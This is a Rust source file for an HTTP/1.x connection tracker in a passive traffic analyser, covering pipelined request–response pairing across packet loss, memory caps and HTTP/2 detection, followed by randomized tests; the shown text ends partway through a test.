//! An HTTP/1.x connection: two [`Half`] parsers and the queue that pairs requests with
//! responses in order (pipelining).
//!
//! Pairing on a lossy mirror: when bytes between requests are lost, a *lost* marker takes the
//! place of the request(s) that may have been in them; when bytes between responses are lost,
//! the response side is flagged. At the next response head, the server's acknowledgement number
//! (mapped to an offset of the client's stream) says which requests the server had received
//! when it answered: a lost marker followed by a request the server had fully received is
//! dropped, and after a response-side loss, requests older than the last one the server had
//! received are emitted unanswered (their responses were lost), so one lost packet never shifts
//! every later pairing by one. With no loss, pairing is strictly in order.

use std::collections::VecDeque;

use super::half::{Events, Half, ReqKind, Role};
use super::{HttpAnomaly, HttpConfig, Message, Transaction};
use crate::capture::Ts;
use crate::http2::{self, H2Conn, Start};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum ReqState {
    Lost,
    /// A response started while this request's head was still arriving (a server that
    /// rejects a bad head before it ends): the head, when complete, takes this entry.
    Early,
    InProgress,
    Done,
}

struct Entry {
    /// The transaction this entry becomes: its request and response land in it, so once it is
    /// complete only the box moves (queue -> flow -> event -> batch), not ~400 bytes each time.
    tx: Box<Transaction>,
    state: ReqState,
    kind: ReqKind,
    /// Client-stream offset just past the request (known once it is complete).
    end_off: Option<u64>,
    resp_started: bool,
    /// Its response was lost in a gap.
    resp_lost: bool,
    /// Bytes the request holds (counted against `MAX_PENDING_BYTES`).
    cost: usize,
}

impl Entry {
    fn new(state: ReqState, kind: ReqKind) -> Self {
        Entry {
            tx: Box::default(),
            state,
            kind,
            end_off: None,
            resp_started: false,
            resp_lost: false,
            cost: 0,
        }
    }

    /// The finished transaction, `lost` as for [`Transaction::new`].
    fn into_tx(self, lost: bool) -> Box<Transaction> {
        let mut tx = self.tx;
        tx.seal(lost);
        tx
    }
}

/// Response bytes that wait for the request they answer (see [`Conn::should_defer`]).
struct Deferred {
    dir: usize,
    /// Client-stream offset the server had acknowledged.
    need: u64,
    chunks: Vec<(Ts, Held)>,
    bytes: usize,
}

enum Held {
    Data(Vec<u8>, Option<u64>),
    Gap(u64),
}

/// Most response bytes held back waiting for their request.
const MAX_DEFER: usize = 256 << 10;

/// Most bytes of requests waiting for their responses per connection (heads and kept body
/// prefixes); past it, as past `max_pending`, the oldest unanswered request is evicted.
const MAX_PENDING_BYTES: usize = 1 << 20;

/// What a queued message costs in memory, roughly.
fn msg_cost(m: &Message) -> usize {
    std::mem::size_of::<Message>()
        + m.method.len()
        + m.uri.len()
        + m.reason.len()
        + m.body.capacity()
        // (the names and values of every line, and 48 bytes per line)
        + m.headers.bytes()
        + 48 * m.headers.len()
}

pub struct Conn {
    halves: [Half; 2],
    client: Option<usize>,
    q: Q,
    deferred: Option<Deferred>,
    /// The connection speaks HTTP/2 (preface, `Upgrade: h2c`, or its frame layout): every
    /// byte from then on goes there.
    h2: Option<Box<H2Conn>>,
    /// Bytes of each direction handed to a tentative `h2` (given back to HTTP/1 if it fails).
    h2_bytes: [u64; 2],
    /// A frame layout was taken for HTTP/2 and was not: never again on this connection.
    h2_failed: bool,
    /// The tentative `h2` began at the first byte of a direction (so, if it fails, the
    /// connection started with binary bytes: not HTTP/1 either).
    h2_at_start: bool,
}

/// Everything but the two parsers, so a parser can report into it while borrowed.
struct Q {
    pending: VecDeque<Entry>,
    /// (boxed on purpose: each was built in its box, see [`Entry::tx`])
    #[allow(clippy::vec_box)]
    out: Vec<Box<Transaction>>,
    anomalies: Vec<HttpAnomaly>,
    resp_gap: bool,
    tunnel: bool,
    not_http: bool,
    role_found: Option<Role>,
    /// Offset in the client's stream acknowledged by the packet being processed (server side).
    ack_off: Option<u64>,
    /// The client's side holds part of a request head (set before response bytes are fed).
    req_head_partial: bool,
    max_pending: usize,
    /// Requests evicted past `max_pending` (reported without their responses), oldest first,
    /// run-length by kind: the next responses answer them, so later pairings stay exact.
    evicted: VecDeque<(ReqKind, u64)>,
    /// The response being parsed answers an evicted request: it is counted, not paired.
    skipping: bool,
    /// Responses dropped that way.
    pub evicted_responses: u64,
    /// Sum of the `cost` of the entries in `pending`.
    pending_bytes: usize,
}

/// Runs of evicted request kinds kept per connection (16 bytes each); past it, runs merge
/// (pairing stays exact, only a HEAD's bodiless framing can be missed).
const MAX_EVICTED_RUNS: usize = 4096;

impl Conn {
    /// `client`: the direction index (0 or 1) whose sender is the client, if the handshake
    /// told us; otherwise the first message seen decides.
    pub fn new(client: Option<usize>, cfg: &HttpConfig) -> Self {
        let role = |d: usize| client.map(|c| if c == d { Role::Request } else { Role::Response });
        Conn {
            halves: [Half::new(role(0)), Half::new(role(1))],
            client,
            deferred: None,
            h2: None,
            h2_bytes: [0; 2],
            h2_failed: false,
            h2_at_start: false,
            q: Q {
                pending: VecDeque::new(),
                out: Vec::new(),
                anomalies: Vec::new(),
                resp_gap: false,
                tunnel: false,
                not_http: false,
                role_found: None,
                ack_off: None,
                req_head_partial: false,
                max_pending: cfg.max_pending,
                evicted: VecDeque::new(),
                skipping: false,
                evicted_responses: 0,
                pending_bytes: 0,
            },
        }
    }

    pub fn client(&self) -> Option<usize> {
        self.client.or_else(|| self.h2.as_ref().and_then(|h| h.client()))
    }

    /// HTTP/2 counters, when the connection turned out to speak it.
    pub fn h2_stats(&self) -> Option<http2::H2Stats> {
        self.h2.as_ref().map(|h| h.stats())
    }

    /// Responses skipped because their request had been evicted from a pipeline past its caps
    /// (reported without a response, so later pairings stay exact).
    pub fn evicted_responses(&self) -> u64 {
        self.q.evicted_responses
    }

    /// The connection turned out not to speak HTTP (a frame layout taken for HTTP/2 that never
    /// showed a request or a response counts too).
    pub fn not_http(&self) -> bool {
        self.q.not_http || self.h2.as_ref().is_some_and(|h| h.tentative())
    }

    /// Finished transactions and anomalies since the last call.
    pub fn take(&mut self, txs: &mut Vec<Box<Transaction>>, anomalies: &mut Vec<HttpAnomaly>) {
        // (one transaction and no anomaly, the common case: moved alone, not by a bulk copy)
        match self.q.out.len() {
            0 => {}
            1 => txs.extend(self.q.out.pop()),
            _ => txs.append(&mut self.q.out),
        }
        if !self.q.anomalies.is_empty() {
            anomalies.append(&mut self.q.anomalies);
        }
        if let Some(h) = self.h2.as_mut() {
            let mut h2 = Vec::new();
            h.take(&mut h2, anomalies);
            txs.extend(h2.into_iter().map(Box::new));
        }
    }

    pub fn has_output(&self) -> bool {
        !self.q.out.is_empty() || !self.q.anomalies.is_empty() || self.h2.as_ref().is_some_and(|h| h.has_output())
    }

    /// Before HTTP/1 parsing: does direction `dir` show HTTP/2 (the client preface at its start,
    /// or, before either side spoke HTTP/1, the frame layout)? If so, switch and feed it.
    fn detect_h2(&mut self, dir: usize, d: &[u8], ts: Ts, cfg: &HttpConfig) -> bool {
        // Offset 0 is the connection's first byte only when the handshake was seen (a flow
        // picked up mid-stream starts its offsets at the first byte captured).
        let at_start = |c: &Conn, e: usize| c.halves[e].pos() == 0;
        let known_start = |c: &Conn, e: usize| at_start(c, e) && c.client.is_some();
        let fresh = !self.halves[0].ever_synced() && !self.halves[1].ever_synced();
        let preface = at_start(self, dir) && http2::starts_preface(d);
        let (client, skip) = if preface {
            (Some(dir), 0)
        } else if fresh && self.halves[dir].pos() < 1 << 20 {
            // At a connection's first byte, HTTP/2 starts with the preface (a client) or a
            // SETTINGS frame (a server); in the middle, the frame layout is looked for anywhere.
            if known_start(self, dir) {
                // a server's first frame is its SETTINGS (RFC 9113 §3.4); a client's first
                // bytes would be the preface
                if self.client == Some(dir) || !http2::starts_settings(d) {
                    return false;
                }
                (self.client, 0)
            } else {
                match http2::find_frames(d, true) {
                    Some(k) => (self.client, k),
                    None => return false,
                }
            }
        } else {
            return false;
        };
        let start = |e: usize| {
            let beginning = if e == dir {
                preface || (skip == 0 && known_start(self, e))
            } else {
                at_start(self, e) && (preface || self.client.is_some())
            };
            if beginning { Start::Beginning } else { Start::Midstream }
        };
        let starts = [start(0), start(1)];
        let mut h = H2Conn::new(client, starts, cfg);
        if !preface {
            h.set_tentative();
        }
        self.q.tunnel = true;
        for half in &mut self.halves {
            half.set_tunnel();
        }
        // a midstream direction finds the same frame again at the start of `d[skip..]`
        h.data(dir, &d[skip..], ts, cfg);
        self.h2 = Some(Box::new(h));
        self.h2_bytes = [0; 2];
        self.h2_bytes[dir] = d.len() as u64;
        self.h2_at_start = starts[dir] == Start::Beginning;
        self.h2_check();
        true
    }

    /// A tentative HTTP/2 that broke the frame rules was something else: HTTP/1 parsing
    /// resumes (resynchronising) after the bytes it had taken.
    fn h2_check(&mut self) {
        if !self.h2.as_ref().is_some_and(|h| h.failed()) {
            return;
        }
        self.h2 = None;
        self.h2_failed = true;
        if self.h2_at_start {
            // binary from the first byte, and not HTTP/2: not HTTP at all
            self.q.not_http = true;
            for half in &mut self.halves {
                half.set_dead();
            }
            return;
        }
        self.q.tunnel = false;
        for (half, n) in self.halves.iter_mut().zip(self.h2_bytes) {
            half.resume(n);
        }
    }

    /// After HTTP/1 parsing: a 101 answering `Upgrade: h2c` hands the connection to HTTP/2,
    /// its request becoming stream 1's, with the server bytes after the 101 (`rest`).
    fn upgrade_h2(&mut self, dir: usize, rest: &[u8], ts: Ts, cfg: &HttpConfig) {
        let is_h2c = |t: &Transaction| {
            t.response.as_ref().is_some_and(|r| {
                r.status == 101
                    && r.header("upgrade")
                        .is_some_and(|u| u.trim().eq_ignore_ascii_case("h2c"))
            })
        };
        let Some(i) = self.q.out.iter().rposition(|t| is_h2c(t)) else {
            return;
        };
        let Some(client) = self.client else { return };
        let t = self.q.out.remove(i);
        let Some(req) = t.request else { return };
        let mut h = H2Conn::upgraded(client, req, cfg);
        if dir != client && !rest.is_empty() {
            h.data(dir, rest, ts, cfg);
        }
        self.h2 = Some(Box::new(h));
    }

    /// Bytes of direction `dir`. `ack_off`: the offset of the other direction's stream that this
    /// packet acknowledges (used when `dir` carries responses).
    pub fn data(&mut self, dir: usize, d: &[u8], ts: Ts, ack_off: Option<u64>, cfg: &HttpConfig) {
        self.data_with(dir, d, ts, ack_off, cfg, true)
    }

    /// [`Conn::data`]; `fast` false: a body piece takes the general path too (the reference the
    /// tests hold the short path to).
    #[inline(always)]
    fn data_with(&mut self, dir: usize, d: &[u8], ts: Ts, ack_off: Option<u64>, cfg: &HttpConfig, fast: bool) {
        if let Some(h) = self.h2.as_mut() {
            h.data(dir, d, ts, cfg);
            self.h2_bytes[dir & 1] += d.len() as u64;
            self.h2_check();
            return;
        }
        if self.q.tunnel {
            return;
        }
        let dir = dir & 1;
        // The common segment of a large body, that does not end it: nothing but the body count
        // changes. (No HTTP/2 to detect: this direction has synced and is past its first byte;
        // nothing to defer: only a message start waits; no event for `after`; nothing held to
        // release.)
        if fast && self.deferred.is_none() && self.halves[dir].body_piece(d, cfg) {
            // (what `feed` notes for the events, as if they could have come)
            self.q.ack_off = ack_off;
            self.q.req_head_partial = self
                .client
                .is_some_and(|c| c != dir && self.halves[c].head_in_progress());
            return;
        }
        if self.deferred.is_none() && !self.h2_failed && self.detect_h2(dir, d, ts, cfg) {
            return;
        }
        if self.should_defer(dir, ack_off) {
            self.defer(dir, ts, Held::Data(d.to_vec(), ack_off), ack_off, cfg);
            return;
        }
        self.feed(dir, d, ts, ack_off, cfg);
        self.try_release(cfg);
    }

    fn feed(&mut self, dir: usize, d: &[u8], ts: Ts, ack_off: Option<u64>, cfg: &HttpConfig) {
        self.q.ack_off = ack_off;
        self.q.req_head_partial = self
            .client
            .is_some_and(|c| c != dir && self.halves[c].head_in_progress());
        let rest = self.halves[dir].feed(d, ts, cfg, &mut self.q);
        self.after(dir);
        if self.q.tunnel && self.h2.is_none() {
            self.upgrade_h2(dir, &d[d.len() - rest..], ts, cfg);
        }
    }

    pub fn gap(&mut self, dir: usize, n: u64, ts: Ts, cfg: &HttpConfig) {
        if let Some(h) = self.h2.as_mut() {
            h.gap(dir, n, ts);
            self.h2_bytes[dir & 1] += n;
            self.h2_check();
            return;
        }
        if self.q.tunnel {
            return;
        }
        let dir = dir & 1;
        if self.deferred.as_ref().is_some_and(|df| df.dir == dir) {
            self.defer(dir, ts, Held::Gap(n), None, cfg);
            return;
        }
        self.note_partial_request(dir);
        self.halves[dir].gap(n, ts, cfg, &mut self.q);
        self.after(dir);
        self.try_release(cfg);
    }

    pub fn eof(&mut self, dir: usize, ts: Ts, cfg: &HttpConfig) {
        if let Some(h) = self.h2.as_mut() {
            h.eof(dir, ts);
            return;
        }
        // Whatever waited for the other side is processed before a side closes.
        self.release(cfg);
        self.note_partial_request(dir & 1);
        self.halves[dir & 1].eof(ts, cfg, &mut self.q);
        self.after(dir);
    }

    /// A response must not be parsed before the request it answers: on a mirror the two
    /// directions can arrive out of order. When the server's packet acknowledges client bytes
    /// we have not seen yet and a new response would start, its bytes wait (copied, at most
    /// `MAX_DEFER`) until the client's stream catches up (or a gap skips it, or it closes).
    fn should_defer(&self, dir: usize, ack_off: Option<u64>) -> bool {
        if let Some(df) = &self.deferred {
            return df.dir == dir;
        }
        let (Some(c), Some(a)) = (self.client, ack_off) else {
            return false;
        };
        dir != c && self.halves[dir].at_message_start() && a > self.halves[c].pos()
    }

    fn defer(&mut self, dir: usize, ts: Ts, h: Held, ack_off: Option<u64>, cfg: &HttpConfig) {
        let df = self.deferred.get_or_insert_with(|| Deferred {
            dir,
            need: ack_off.unwrap_or(0),
            chunks: Vec::new(),
            bytes: 0,
        });
        if let Held::Data(v, _) = &h {
            df.bytes += v.len();
        }
        df.chunks.push((ts, h));
        if df.bytes > MAX_DEFER {
            self.release(cfg);
        }
    }

    fn release(&mut self, cfg: &HttpConfig) {
        self.release_until_blocked(cfg, true);
    }

    fn try_release(&mut self, cfg: &HttpConfig) {
        let ready = match (&self.deferred, self.client) {
            (Some(df), Some(c)) => self.halves[c].pos() >= df.need,
            (Some(_), None) => true,
            _ => false,
        };
        if ready {
            self.release_until_blocked(cfg, false);
        }
    }

    /// Process held response bytes in order; stop again at a response whose request has
    /// still not been seen (unless `force`: the client side closed or the cap was reached).
    fn release_until_blocked(&mut self, cfg: &HttpConfig, force: bool) {
        let Some(df) = self.deferred.take() else { return };
        let mut chunks = df.chunks.into_iter();
        while let Some((ts, h)) = chunks.next() {
            if self.q.tunnel {
                break;
            }
            if let (false, Held::Data(_, Some(a)), Some(c)) = (force, &h, self.client) {
                let a = *a;
                if self.halves[df.dir].at_message_start() && a > self.halves[c].pos() {
                    let mut rest: Vec<(Ts, Held)> = vec![(ts, h)];
                    rest.extend(chunks);
                    let bytes = rest
                        .iter()
                        .map(|(_, h)| if let Held::Data(v, _) = h { v.len() } else { 0 })
                        .sum();
                    self.deferred = Some(Deferred {
                        dir: df.dir,
                        need: a,
                        chunks: rest,
                        bytes,
                    });
                    return;
                }
            }
            match h {
                Held::Data(v, ack) => self.feed(df.dir, &v, ts, ack, cfg),
                Held::Gap(n) => {
                    self.note_partial_request(df.dir);
                    self.halves[df.dir].gap(n, ts, cfg, &mut self.q);
                    self.after(df.dir);
                }
            }
        }
    }

    /// End of the flow: close both directions and emit everything still pending, requests
    /// without responses included.
    pub fn flush(&mut self, ts: Ts, cfg: &HttpConfig) {
        if let Some(h) = self.h2.as_mut() {
            h.flush(ts);
        }
        self.release(cfg);
        // Responses first: a close-delimited response ends with the connection.
        let order = match self.client {
            Some(c) => [c ^ 1, c],
            None => [0, 1],
        };
        for d in order {
            self.note_partial_request(d);
            self.halves[d].eof(ts, cfg, &mut self.q);
        }
        self.q.pop_ready();
        // Requests still unanswered when the response side lost bytes: their responses were
        // most likely in the hole.
        let resp_gap = self.q.resp_gap;
        while let Some(mut e) = self.q.remove_at(0) {
            e.resp_lost |= resp_gap && e.tx.response.is_none();
            if e.tx.request.is_some() || e.tx.response.is_some() {
                let lost = e.resp_lost;
                self.q.out.push(e.into_tx(lost));
            }
        }
    }

    /// Before bytes of direction `dir` are parsed: does the client's side hold part of a
    /// request head (a response now answers it)?
    fn note_partial_request(&mut self, dir: usize) {
        self.q.req_head_partial = self
            .client
            .is_some_and(|c| c != dir && self.halves[c].head_in_progress());
    }

    fn after(&mut self, dir: usize) {
        let dir = dir & 1;
        if self.client.is_none() && self.halves.iter().all(|h| h.probe_exhausted()) {
            // Picked up mid-stream and a megabyte each way without one HTTP message: not HTTP.
            self.q.not_http = true;
            self.q.tunnel = true;
            for h in &mut self.halves {
                h.set_dead();
            }
            return;
        }
        if let Some(role) = self.q.role_found.take() {
            let other = match role {
                Role::Request => Role::Response,
                Role::Response => Role::Request,
            };
            self.halves[dir ^ 1].set_role(other);
            if self.client.is_none() {
                self.client = Some(if role == Role::Request { dir } else { dir ^ 1 });
            }
        }
        if self.q.tunnel {
            for h in &mut self.halves {
                h.set_tunnel();
            }
        }
    }
}

impl Q {
    /// Take entry `i` out of the queue, keeping the byte count.
    fn remove_at(&mut self, i: usize) -> Option<Entry> {
        let e = self.pending.remove(i)?;
        self.pending_bytes = self.pending_bytes.saturating_sub(e.cost);
        Some(e)
    }

    fn pop_ready(&mut self) {
        while let Some(f) = self.pending.front() {
            if matches!(f.state, ReqState::InProgress | ReqState::Early) || f.tx.response.is_none() {
                break;
            }
            let Some(e) = self.pending.pop_front() else { break };
            self.pending_bytes = self.pending_bytes.saturating_sub(e.cost);
            let lost = e.resp_lost;
            self.out.push(e.into_tx(lost));
        }
    }

    /// The pipeline is full: report the oldest unanswered request now, without its response,
    /// and remember that one response still answers it (bounded: a run-length queue).
    /// Returns false when nothing was left to evict.
    fn evict(&mut self) -> bool {
        self.anomalies.push(HttpAnomaly::TooManyPipelined);
        let i = self
            .first_unanswered()
            .filter(|i| !matches!(self.pending[*i].state, ReqState::InProgress | ReqState::Early));
        let Some(e) = i.and_then(|i| self.remove_at(i)) else {
            let Some(e) = self.remove_at(0) else {
                return false;
            };
            let lost = e.resp_lost;
            if e.tx.request.is_some() || e.tx.response.is_some() {
                self.out.push(e.into_tx(lost));
            }
            return true;
        };
        let full = self.evicted.len() >= MAX_EVICTED_RUNS;
        match self.evicted.back_mut() {
            Some((k, n)) if *k == e.kind || full => *n += 1,
            _ => self.evicted.push_back((e.kind, 1)),
        }
        if e.tx.request.is_some() {
            let mut e = e;
            e.tx.response = None;
            self.out.push(e.into_tx(false));
        }
        self.pop_ready();
        true
    }

    /// The last request whose head came and whose message is not complete.
    fn last_in_progress(&mut self) -> Option<&mut Entry> {
        // (the last entry, the common case, looked at without setting up a walk)
        let in_progress = |e: &Entry| e.state == ReqState::InProgress;
        match self.pending.back() {
            Some(e) if in_progress(e) => self.pending.back_mut(),
            _ => self.pending.iter_mut().rev().find(|e| in_progress(e)),
        }
    }

    /// The first entry whose response has started and has not come whole (nor was lost).
    fn first_awaiting_response(&mut self) -> Option<&mut Entry> {
        // (the front entry, the common case, looked at without setting up a walk)
        let awaiting = |e: &Entry| e.resp_started && e.tx.response.is_none() && !e.resp_lost;
        match self.pending.front() {
            Some(e) if awaiting(e) => self.pending.front_mut(),
            _ => self.pending.iter_mut().find(|e| awaiting(e)),
        }
    }

    fn first_unanswered(&self) -> Option<usize> {
        // (the front entry, the common case, looked at without setting up a walk over the
        // ring buffer's two halves)
        match self.pending.front() {
            None => None,
            Some(f) if !f.resp_started => Some(0),
            Some(_) => self.pending.range(1..).position(|e| !e.resp_started).map(|i| i + 1),
        }
    }

    /// Is there a complete request after index `i` that the server had fully received?
    fn later_request_received(&self, i: usize, ack: u64) -> bool {
        self.pending
            .iter()
            .skip(i + 1)
            .any(|e| e.state == ReqState::Done && e.end_off.is_some_and(|o| o <= ack))
    }

    fn realign(&mut self) {
        let Some(ack) = self.ack_off else {
            self.resp_gap = false;
            return;
        };
        // (with one entry or none, the common case, no request comes after the first
        // unanswered one: nothing to realign)
        while let Some(i) = self.first_unanswered().filter(|_| self.pending.len() > 1) {
            if !self.later_request_received(i, ack) {
                break;
            }
            match self.pending[i].state {
                ReqState::Lost => {
                    self.remove_at(i);
                }
                ReqState::Done if self.resp_gap => {
                    // Its response was in the bytes the response side lost.
                    self.pending[i].resp_started = true;
                    self.pending[i].resp_lost = true;
                    self.pending[i].tx.response = None;
                    if let Some(e) = self.remove_at(i) {
                        self.out.push(e.into_tx(true));
                    }
                }
                _ => break,
            }
        }
        self.resp_gap = false;
    }
}

impl Events for Q {
    fn role_found(&mut self, role: Role) {
        self.role_found = Some(role);
    }

    fn request_head(&mut self, msg: &Message, _end_off: u64) {
        let kind = if msg.http09 {
            ReqKind::Http09
        } else if msg.method.eq_ignore_ascii_case("HEAD") {
            ReqKind::Head
        } else if msg.method.eq_ignore_ascii_case("CONNECT") {
            ReqKind::Connect
        } else {
            ReqKind::Other
        };
        if let Some(e) = self.pending.back_mut().filter(|e| e.state == ReqState::Early) {
            // its response already started: this head is the request it answers
            e.state = ReqState::InProgress;
            e.kind = kind;
            return;
        }
        while (self.pending.len() >= self.max_pending || self.pending_bytes > MAX_PENDING_BYTES) && self.evict() {}
        self.pending.push_back(Entry::new(ReqState::InProgress, kind));
    }

    fn response_head(&mut self, _msg: &Message) -> ReqKind {
        self.realign();
        if let Some((kind, n)) = self.evicted.front_mut() {
            // Responses to evicted requests come before those of the requests still queued.
            let kind = *kind;
            *n -= 1;
            if *n == 0 {
                self.evicted.pop_front();
            }
            self.skipping = true;
            return kind;
        }
        let i = match self.first_unanswered() {
            Some(i) => i,
            None if self.req_head_partial => {
                // The server answers a request whose head is still arriving (it rejected it
                // early): pair them once the head is complete.
                self.pending.push_back(Entry::new(ReqState::Early, ReqKind::Unknown));
                self.pending.len() - 1
            }
            None => {
                // A response to a request we never saw (capture started mid-connection, or the
                // request was lost).
                self.pending.push_back(Entry::new(ReqState::Lost, ReqKind::Unknown));
                self.pending.len() - 1
            }
        };
        self.pending[i].resp_started = true;
        self.pending[i].kind
    }

    fn next_response_kind(&self) -> Option<ReqKind> {
        if let Some((kind, _)) = self.evicted.front() {
            return Some(*kind);
        }
        self.first_unanswered().map(|i| self.pending[i].kind)
    }

    fn done(&mut self, role: Role, msg: &mut Message, end_off: u64) {
        if role == Role::Response && self.skipping {
            self.skipping = false;
            self.evicted_responses += 1;
            drop(std::mem::take(msg));
            self.pop_ready();
            return;
        }
        // (each message is taken straight into its transaction's box)
        match role {
            Role::Request => {
                let cost = msg_cost(msg);
                self.pending_bytes += cost;
                match self.last_in_progress() {
                    Some(e) => {
                        e.cost = cost;
                        e.tx.request = Some(std::mem::take(msg));
                        e.state = ReqState::Done;
                        e.end_off = Some(end_off);
                    }
                    None => {
                        let mut e = Entry::new(ReqState::Done, ReqKind::Other);
                        e.cost = cost;
                        e.tx.request = Some(std::mem::take(msg));
                        e.end_off = Some(end_off);
                        self.pending.push_back(e);
                    }
                }
            }
            Role::Response => match self.first_awaiting_response() {
                Some(e) => e.tx.response = Some(std::mem::take(msg)),
                None => {
                    let mut e = Entry::new(ReqState::Lost, ReqKind::Other);
                    e.resp_started = true;
                    e.tx.response = Some(std::mem::take(msg));
                    self.pending.push_back(e);
                }
            },
        }
        self.pop_ready();
    }

    fn lost(&mut self, role: Role, _at_off: u64) {
        match role {
            Role::Request => {
                // a head that was still arriving is gone: its early response stays unpaired
                for e in self.pending.iter_mut().filter(|e| e.state == ReqState::Early) {
                    e.state = ReqState::Lost;
                }
                if self
                    .pending
                    .back()
                    .is_none_or(|e| e.state != ReqState::Lost || e.resp_started)
                {
                    if self.pending.len() >= self.max_pending {
                        return;
                    }
                    self.pending.push_back(Entry::new(ReqState::Lost, ReqKind::Unknown));
                }
            }
            Role::Response => self.resp_gap = true,
        }
    }

    fn anomaly(&mut self, a: HttpAnomaly) {
        self.anomalies.push(a);
    }

    fn tunnel(&mut self) {
        self.tunnel = true;
    }

    fn not_http(&mut self) {
        self.not_http = true;
        self.tunnel = true;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The connection hands boxes on; the tests compare the transactions.
    pub(super) fn unboxed(t: Vec<Box<Transaction>>) -> Vec<Transaction> {
        t.into_iter().map(|b| *b).collect()
    }

    fn run(chunks: &[(usize, &[u8])]) -> Vec<Transaction> {
        let cfg = HttpConfig::default();
        let mut c = Conn::new(Some(0), &cfg);
        for (i, (d, b)) in chunks.iter().enumerate() {
            c.data(*d, b, i as u64 * 1000, None, &cfg);
        }
        c.flush(99_000, &cfg);
        let (mut t, mut a) = (vec![], vec![]);
        c.take(&mut t, &mut a);
        let t = unboxed(t);
        t
    }

    fn line(t: &Transaction) -> (String, String, u16, u64, u64) {
        let q = t.request.as_ref();
        let r = t.response.as_ref();
        (
            q.map_or(String::new(), |m| m.method.clone()),
            q.map_or(String::new(), |m| m.uri.clone()),
            r.map_or(0, |m| m.status),
            q.map_or(0, |m| m.body_len),
            r.map_or(0, |m| m.body_len),
        )
    }

    /// The queue's lookups that look at one end first find what a walk over the whole queue
    /// finds, on queues of every shape (entries of every state, the ring buffer wrapped).
    #[test]
    fn queue_lookups_find_what_a_walk_finds() {
        let cfg = HttpConfig::default();
        let mut seed = 7u64;
        let mut next = move || {
            seed = seed.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
            seed >> 33
        };
        let states = [ReqState::InProgress, ReqState::Done, ReqState::Lost, ReqState::Early];
        for round in 0..3000 {
            let mut q = Conn::new(Some(0), &cfg).q;
            // (rotate the ring buffer so its entries wrap around its end)
            for _ in 0..next() % 7 {
                q.pending.push_back(Entry::new(ReqState::Done, ReqKind::Other));
            }
            let n = (next() % 6) as usize;
            for _ in 0..n {
                let mut e = Entry::new(states[(next() % 4) as usize], ReqKind::Other);
                e.resp_started = next() % 2 == 0;
                e.resp_lost = next() % 4 == 0;
                if next() % 3 == 0 {
                    e.tx.response = Some(Message::default());
                }
                q.pending.push_back(e);
            }
            while q.pending.len() > n {
                q.pending.pop_front();
            }
            let first = q.pending.iter().position(|e| !e.resp_started);
            assert_eq!(q.first_unanswered(), first, "round {round}");
            let want = q
                .pending
                .iter()
                .rposition(|e| e.state == ReqState::InProgress)
                .map(|i| &q.pending[i] as *const Entry);
            let got = q.last_in_progress().map(|e| e as *const Entry);
            assert_eq!(got, want, "round {round}");
            let want = q
                .pending
                .iter()
                .position(|e| e.resp_started && e.tx.response.is_none() && !e.resp_lost)
                .map(|i| &q.pending[i] as *const Entry);
            let got = q.first_awaiting_response().map(|e| e as *const Entry);
            assert_eq!(got, want, "round {round}");
        }
    }

    /// A body piece taken by the short path of [`Conn::data`] gives what the general path
    /// gives: pipelined requests and responses with bodies framed every way, a response before
    /// its request, cut into random segments, in both directions' interleavings.
    #[test]
    fn body_pieces_short_path_is_the_general_path() {
        let mut seed = 0x2545_f491_4f6c_dd1d_u64;
        let mut next = move |n: usize| {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            (seed % n as u64) as usize
        };
        let body: Vec<u8> = (0..3000u32).map(|i| b'a' + (i % 26) as u8).collect();
        let chunked = |b: &[u8], size: usize| {
            let mut v: Vec<u8> = Vec::new();
            for c in b.chunks(size.max(1)) {
                v.extend(format!("{:x}\r\n", c.len()).as_bytes());
                v.extend(c);
                v.extend(b"\r\n");
            }
            v.extend(b"0\r\n\r\n");
            v
        };
        for round in 0..300 {
            let cfg = HttpConfig {
                body_depth: [0, 10, 700, 64 << 10][round % 4],
                ..HttpConfig::default()
            };
            let (mut req, mut resp) = (Vec::new(), Vec::new());
            let msgs = 1 + next(4);
            for m in 0..msgs {
                let (n, k) = (next(body.len()), next(3));
                match next(3) {
                    0 => req.extend(format!("GET /{m} HTTP/1.1\r\nHost: h\r\n\r\n").as_bytes()),
                    1 => {
                        req.extend(format!("POST /{m} HTTP/1.1\r\nContent-Length: {n}\r\n\r\n").as_bytes());
                        req.extend(&body[..n]);
                    }
                    _ => {
                        req.extend(format!("PUT /{m} HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n").as_bytes());
                        req.extend(chunked(&body[..n], 1 + next(900)));
                    }
                }
                let last = m + 1 == msgs;
                match k {
                    0 => {
                        resp.extend(format!("HTTP/1.1 200 OK\r\nContent-Length: {n}\r\n\r\n").as_bytes());
                        resp.extend(&body[..n]);
                    }
                    1 => {
                        resp.extend(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n");
                        resp.extend(chunked(&body[..n], 1 + next(900)));
                    }
                    _ if last => {
                        resp.extend(b"HTTP/1.1 200 OK\r\n\r\n");
                        resp.extend(&body[..n]);
                    }
                    _ => resp.extend(b"HTTP/1.1 204 No Content\r\n\r\n"),
                }
            }
            // segments of both directions, interleaved at random (a response may come first)
            let mut segs: Vec<(usize, &[u8])> = Vec::new();
            let (mut a, mut b) = (&req[..], &resp[..]);
            while !a.is_empty() || !b.is_empty() {
                let dir = if a.is_empty() {
                    1
                } else if b.is_empty() {
                    0
                } else {
                    next(2)
                };
                let s = if dir == 0 { &mut a } else { &mut b };
                let n = (1 + next(1600)).min(s.len());
                segs.push((dir, &s[..n]));
                *s = &s[n..];
            }
            let run = |fast: bool| {
                let mut c = Conn::new(Some(0), &cfg);
                let mut off = [0u64; 2];
                for (i, (dir, p)) in segs.iter().enumerate() {
                    // acknowledgements of what the other side sent so far
                    let ack = Some(off[dir ^ 1]);
                    c.data_with(*dir, p, i as u64, ack, &cfg, fast);
                    off[*dir] += p.len() as u64;
                }
                c.flush(99_000, &cfg);
                let (mut t, mut an) = (vec![], vec![]);
                c.take(&mut t, &mut an);
                format!("{:?} {an:?}", unboxed(t))
            };
            assert_eq!(run(true), run(false), "round {round}");
        }
    }

    /// The kept body prefix is the first `body_depth` bytes of the body whatever its framing
    /// and however it is cut into segments; a Content-Length body that comes whole is kept in
    /// one allocation of its size, a claimed length reserves no more than 4x the bytes that
    /// came, and no kept body holds much more than `body_depth`.
    #[test]
    fn kept_body_is_the_prefix_in_one_bounded_allocation() {
        let depth = 1000;
        let cfg = HttpConfig {
            body_depth: depth,
